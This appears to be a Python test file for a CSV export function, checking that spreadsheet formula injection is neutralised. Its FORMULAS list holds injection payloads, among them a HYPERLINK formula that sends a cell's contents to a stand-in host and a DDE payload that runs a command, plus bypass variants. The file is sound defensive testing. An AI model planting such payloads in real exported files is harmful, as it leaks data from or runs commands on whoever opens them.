"""CSV: a real reader reads back what went in, and no spreadsheet takes a text for a formula."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given

from kimgen.csvtext import csv_table
from tests.support.hostile import ANY_TEXT
from tests.support.payloads import OWN, of_others

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://jahat.example/?x="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "%0A=1",
    "|x",
)


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""), strict=True))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_begins_a_formula(text: str) -> None:
    (_, (cell, other)) = read(csv_table(("a", "b"), [(text, "x")]))
    assert cell.startswith("'")
    assert other == "x"


def test_what_is_no_formula_is_left_as_it_is() -> None:
    rows = [("KIM Melayu", 12, -0.42, None), ('kata "kutip", koma; titik', 0, 116.98, None)]
    assert read(csv_table(("nama", "tulisan", "lintang", "kosong"), rows)) == [
        ["nama", "tulisan", "lintang", "kosong"],
        ["KIM Melayu", "12", "-0.42", ""],
        ['kata "kutip", koma; titik', "0", "116.98", ""],
    ]


def check(text: str) -> None:
    data = csv_table(("a", "b"), [(text, "tetap"), ("x", text)])
    rows = read(data)
    assert [len(row) for row in rows] == [2, 2, 2]
    assert (rows[1][1], rows[2][0]) == ("tetap", "x")
    assert data.count(b"\n") == 3
    assert rows[1][0] == rows[2][1]
    assert not rows[1][0].lstrip().startswith(tuple("=+-@\t\r"))


@given(ANY_TEXT)
def test_a_row_is_a_line_whatever_is_in_it(text: str) -> None:
    check(text)


def test_payloads_stay_in_their_cell() -> None:
    for text in (*OWN, *FORMULAS, *of_others()):
        check(text)
